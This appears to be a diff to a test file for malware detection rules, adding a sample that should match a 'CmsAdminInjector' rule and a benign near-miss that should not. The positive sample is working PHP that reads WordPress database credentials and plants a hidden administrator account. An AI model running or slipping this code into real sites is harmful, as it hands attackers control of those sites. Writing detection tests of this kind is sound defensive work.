@@ -27,9 +27,23 @@ UPLOAD_TARGET_NEAR = (
     b"move_uploaded_file($_FILES['f']['tmp_name'], $target);\n"
 )
 
+ADMIN_INJECT = (
+    b"<?php\ninclude '../wp-config.php';\n$c = mysqli_connect(DB_HOST, DB_USER, DB_PASSWORD, DB_NAME);\n"
+    b"mysqli_query($c, \"INSERT INTO wp_users (user_login, user_pass) VALUES ('x', MD5('x'))\");\n"
+    b'$id = mysqli_insert_id($c);\nmysqli_query($c, "INSERT INTO wp_usermeta (user_id, meta_key, meta_value)'
+    b" VALUES ($id, 'wp_capabilities', 'a:1:{s:13:\\\"administrator\\\";b:1;}')\");\n"
+)
+ADMIN_INJECT_NEAR = (
+    b"<?php\n// data import: copy newsletter subscribers into the users table\n"
+    b"include 'config/database.php';\n$pdo = new PDO($dsn, $user, $pass);\n"
+    b"$pdo->exec(\"INSERT INTO users (email, role) SELECT email, 'subscriber' FROM subscribers\");\n"
+)
+
 CASES: list[tuple[str, bytes, bool]] = [
     ("SPAMGEAR_TOOLKIT_DefacementNotifier", NOTIFIER, True),
     ("SPAMGEAR_TOOLKIT_DefacementNotifier", NOTIFIER_NEAR, False),
     ("SPAMGEAR_TOOLKIT_UploadTargetFromInput", UPLOAD_TARGET, True),
     ("SPAMGEAR_TOOLKIT_UploadTargetFromInput", UPLOAD_TARGET_NEAR, False),
+    ("SPAMGEAR_TOOLKIT_CmsAdminInjector", ADMIN_INJECT, True),
+    ("SPAMGEAR_TOOLKIT_CmsAdminInjector", ADMIN_INJECT_NEAR, False),
 ]
